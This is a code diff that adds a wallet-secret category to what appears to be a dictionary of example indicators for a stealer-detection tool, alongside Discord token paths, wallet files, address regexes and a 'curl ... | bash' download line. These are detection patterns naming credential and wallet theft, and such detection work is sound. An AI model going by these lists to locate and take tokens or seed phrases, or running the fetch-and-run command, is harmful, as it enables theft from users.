@@ -39,6 +39,12 @@ EXAMPLES: dict[Category, list[str]] = {
     Category.DISCORD_APP: [r"C:\Users\x\AppData\Roaming\discord\Local Storage"],
     Category.TOKEN_STORE: [r"discord\Local Storage\leveldb", "dQw4w9WgXcQ:abc"],
     Category.WALLET: ["wallet.dat", r"Exodus\exodus.wallet", "nkbihfbeogaeaoehlefnkodbefgpgknn"],
+    Category.WALLET_SECRET: [
+        "mnemonic",
+        "private_key",
+        "seed phrase",
+        "Enter your 12 seed phrases",
+    ],
     Category.WALLET_ADDRESS: [r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", r"0x[a-fA-F0-9]{40}"],
     Category.SHELL_DOWNLOAD: [
         "curl -fsSL https://x/i.sh | bash",
